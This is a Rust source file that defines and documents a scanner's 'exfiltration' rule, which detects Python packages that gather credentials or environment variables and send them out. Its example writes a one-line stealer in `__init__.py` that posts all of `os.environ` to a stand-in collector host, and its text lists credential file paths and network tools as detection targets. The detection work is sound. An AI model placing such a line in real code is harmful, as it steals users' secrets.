//! `exfiltration`: code collects credentials or the environment and sends data out (found by the archive scanner, `src/scan/`).

use super::RuleMeta;
use crate::finding::{Confidence, RuleId, Severity};

/// Rule metadata.
pub const META: RuleMeta = RuleMeta {
    id: RuleId::Exfiltration,
    summary: "Code collects credentials or the environment and sends data out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    docs: r#"# exfiltration

## What it does
Reports data of a *source* that reaches a *sink* in a Python file: the flow, not the co-occurrence. Sources: the whole environment, secret-named variables (read one by one too, also in a loop over a list of names), credential files and stores named by path (ssh keys, `.pypirc`, `.netrc`, cloud, kube and docker config, git credentials, shell history, browser profiles, chat apps, wallets), the clipboard, the screen, and host and user details. Sinks: HTTP clients, sockets, DNS look-ups carrying data in the name, SMTP, FTP, chat bot and webhook clients, and command lines that run network tools (`curl`, `wget`, `nslookup`...). Data moves through assignments, containers and their mutators, f-strings, encoders, loops, `with`, `self.` attributes, function parameters and return values within the file, and files staged on disk (written, copied or zipped, then read or uploaded). The facts are declared in `rules/flows.toml`.

Severity is earned by three facts, all in the finding's evidence:
- **the data**: the environment, credential files, the clipboard or the screen, or three or more secret variables, are *strong*; one secret variable (what every SDK reads) and host details are not;
- **the host**: a receiving service (webhook, bot API, paste or file-drop site, tunnel, request catcher, out-of-band testing domain, raw IP address) weighs most; the project's own host (its name in the domain) least; this machine is never reported;
- **where it runs**: code at a file's top level or in a function its top level (or, in `setup.py`, an install command) reaches runs unasked; code in a function nothing calls runs only when a user asks.

Unasked in `.pth` files, `sitecustomize`, `setup.py` or a package's `__init__.py`: critical with strong data or a receiving service, else high; in other modules one step lower. Only when called: high for strong data to a receiving service, medium for strong data to a host that is not the project's or any data to a receiving service, else low (an SDK sending its own key to its own API). Tests, docs and examples are not reported. Where a file does not parse and no flow is found in what did, the co-occurrence of a source and a sink in the file is reported as before.

A member that Python code runs as a file (`exec(open('README.txt').read())`, `exec(compile(...))`, `Path(p).read_text()` into `exec`, `runpy.run_path`, Python 2's `execfile`) is code whatever its name: it is analysed as Python in the role of the file that runs it (a text file `setup.py` executes is install-time code), and its findings say so in the `run-by` evidence. This holds for every content rule, not only this one.

## Why it matters
Stolen credentials are what supply-chain attacks are for. Single strings mean little — most popular packages read `os.environ`, and cloud SDKs read `~/.aws/credentials` — but a package that gathers them and talks to the network in code that runs on install or import is the pattern of every credential stealer found on the index.

## Example
```python
# mypkg/__init__.py
import os, requests
requests.post("https://collector.example/c", json=dict(os.environ))
```

## How to fix
Do not install the release. If it is a dependency you trust, read the code at the reported lines; report malicious packages to the index's security team. A reviewed false positive can be allowed with `[[allow]]` (rule, package, version, `path` inside the archive, reason, expiry).
"#,
};
